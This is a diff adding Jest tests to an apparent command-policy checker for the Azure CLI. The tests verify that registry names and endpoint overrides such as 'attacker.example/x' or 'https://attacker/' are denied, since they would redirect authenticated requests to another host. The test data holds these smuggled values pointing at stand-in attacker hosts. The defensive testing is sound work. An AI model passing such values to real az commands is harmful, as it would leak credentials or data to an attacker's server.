@@ -100,6 +100,25 @@ describe("az: arguments that pick the endpoint, supply a credential or name anot
 
   it.each(
     cases([
+      ["acr", "repository", "list", "-n", "attacker.example/x"],
+      ["acr", "repository", "list", "-nattacker.example/x"],
+      ["acr", "repository", "list", "--name=attacker.example#"],
+      ["acr", "repository", "list", "--na", "attacker.example?"],
+      ["acr", "task", "list", "-r", "1572395042\\x"],
+    ]),
+  )("acr: a registry name that ends the login server's host early, az %s", (_, argv) => {
+    expect(evaluatePolicy(azBroad, argv).decision).toMatchObject({ result: "deny", source: "locked-option" });
+    expect(evaluatePolicy(azReadonly, argv).decision.result).toBe("deny");
+  });
+
+  it("acr: a plain registry name stays up to the rules", () => {
+    expect(evaluatePolicy(azBroad, ["acr", "repository", "list", "-n", "myregistry"]).decision.result).toBe("accept");
+    expect(evaluatePolicy(azReadonly, ["acr", "repository", "list", "-n", "myregistry"]).decision.result).toBe("accept");
+    expect(evaluatePolicy(azBroad, ["acr", "manifest", "list-metadata", "-r", "myregistry", "team/app"]).decision.result).toBe("accept");
+  });
+
+  it.each(
+    cases([
       ["storage", "blob", "list", "-c", "c", "--account-name", "v", "--auth-mode", "login", "--blob-endpoint", "https://attacker/"],
       ["storage", "container", "list", "--account-name", "v", "--blob-endpoint", "https://attacker/"],
       ["storage", "share", "list", "--account-name", "v", "--file-endpoint", "https://attacker/"],
